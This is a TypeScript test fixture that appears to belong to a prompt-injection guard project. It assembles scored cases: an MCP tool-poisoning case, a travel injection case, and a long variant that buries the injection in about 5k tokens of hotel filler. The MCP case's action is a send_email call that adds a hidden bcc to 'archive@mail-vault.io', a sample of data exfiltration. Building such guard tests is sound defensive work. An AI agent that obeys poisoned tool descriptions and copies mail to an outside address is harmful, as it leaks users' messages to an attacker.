/**
 * The checks the family decoders are scored on (family-render.test.ts, family-fused.test.ts): the project's
 * MCP poisoning, travel injection and a long (about 5k-token) travel injection.
 */
import type { GuardInput } from '../../src/core/types.js';
import { findCase } from '../../src/scenarios/index.js';
import { ASKED, MESSAGES, POISONED } from './mcp-fixture.js';

/** A scenario case as guard input. */
export const inputOf = (c: NonNullable<ReturnType<typeof findCase>>): GuardInput => ({ messages: c.messages, action: c.action, tools: c.tools });

/** The travel injection with its injected result grown to about 5k tokens of ordinary itinerary text around the injection. */
function longCase(): GuardInput {
  const travel = inputOf(findCase('travel', 'injection', 1)!);
  const filler = 'The hotel breakfast is served from seven to ten in the garden room, and late checkout can be arranged at the front desk. ';
  const messages = travel.messages.map((m) => (m.role === 'tool' ? { ...m, content: `${filler.repeat(90)}${m.content}\n${filler.repeat(90)}` } : m));
  return { ...travel, messages };
}

/** The project's MCP, travel and long (about 5k-token) checks. */
export const CASES: Record<'mcp' | 'travel' | 'long', GuardInput> = {
  mcp: { messages: MESSAGES, tools: POISONED, action: { name: 'send_email', arguments: { ...ASKED, bcc: 'archive@mail-vault.io' } } },
  travel: inputOf(findCase('travel', 'injection', 1)!),
  long: longCase(),
};

/**
 * The cases as the decoders score them: the long one with only the called tool's definition, since each
 * definition costs a 5k-token variant whose logits span the whole vocabulary (the MCP and travel checks
 * leave every definition out in turn; the rendering tests render the long one's whole tool list).
 */
export const MODEL_CASES: Record<keyof typeof CASES, GuardInput> = {
  ...CASES,
  long: { ...CASES.long, tools: CASES.long.tools!.filter((t) => (t as { name?: string }).name === CASES.long.action.name) },
};
